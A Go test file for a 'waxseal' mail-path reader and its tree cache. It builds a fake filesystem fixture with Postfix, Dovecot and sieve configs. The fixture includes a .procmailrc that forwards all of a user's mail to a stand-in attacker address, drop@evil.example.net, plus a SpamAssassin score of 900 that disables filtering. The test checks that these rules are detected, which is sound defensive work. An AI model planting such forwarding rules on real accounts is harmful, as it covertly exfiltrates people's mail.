package treecache_test

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"sync/atomic"
	"testing"

	"github.com/google/go-cmp/cmp"

	"waxseal"
	"waxseal/internal/mailpath"
	"waxseal/internal/mask"
	"waxseal/internal/rootfs"
	"waxseal/internal/treecache"
)

func TestBeside(t *testing.T) {
	for _, n := range []int{0, 1, 3, 40} {
		done := make([]atomic.Int32, n)
		var work []func()
		for i := range n {
			work = append(work, func() { done[i].Add(1) })
		}
		treecache.New(nil).Beside(work...)
		for i := range done {
			if got := done[i].Load(); got != 1 {
				t.Errorf("of %d, number %d was done %d times", n, i, got)
			}
		}
	}
}

// TestReadBeside: that readers work side by side changes nothing of what is read, not
// even where one of them finds the only way to what another reads.
func TestReadBeside(t *testing.T) {
	root := t.TempDir()
	for name, text := range map[string]string{
		"etc/passwd":                        "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\nbob:x:1001:1001::/home/bob:/bin/sh\n",
		"etc/postfix/main.cf":               "mydestination = localhost\nmailbox_transport = lmtp:unix:private/dovecot-lmtp\n",
		"etc/postfix/master.cf":             "smtp inet n - y - - smtpd\nlocal unix - n n - - local\n",
		"etc/dovecot/dovecot.conf":          "protocols = lmtp\nuserdb {\n  driver = passwd\n}\nprotocol lmtp {\n  mail_plugins = sieve\n}\nplugin {\n  sieve_plugins = sieve_extprograms\n  sieve_extensions = +vnd.dovecot.pipe\n  sieve_pipe_bin_dir = /usr/local/lib/pipe\n}\n",
		"usr/local/lib/pipe/procmail":       "#!/bin/sh\nexec /usr/bin/procmail\n",
		"home/alice/.dovecot.sieve":         "require \"vnd.dovecot.pipe\";\npipe \"procmail\";\n",
		"home/alice/.procmailrc":            ":0\n! drop@evil.example.net\n",
		"home/bob/.forward":                 "bob@example.org\n",
		"home/bob/.qmail":                   "&bob@example.com\n",
		"home/bob/.spamassassin/user_prefs": "required_score 900\n",
	} {
		file := filepath.Join(root, name)
		if err := errors.Join(os.MkdirAll(filepath.Dir(file), 0o755), os.WriteFile(file, []byte(text), 0o755)); err != nil {
			t.Fatal(err)
		}
	}
	below, err := rootfs.Open(root)
	if err != nil {
		t.Fatal(err)
	}
	defer below.Close()
	want := mailpath.NewReader(mask.New([]byte("k"))).Read(below)
	rules := slices.IndexFunc(want.Hooks, func(h waxseal.Hook) bool { return h.MTA == "procmail" && h.Target.Value == "drop@evil.example.net" })
	if rules < 0 || !want.Hooks[rules].Active {
		t.Errorf("mail does not come to procmail: %v", want.Hooks)
	}
	for range 20 {
		got := mailpath.NewReader(mask.New([]byte("k"))).Read(treecache.New(below))
		if d := cmp.Diff(want, got); d != "" {
			t.Fatal(d)
		}
	}
}
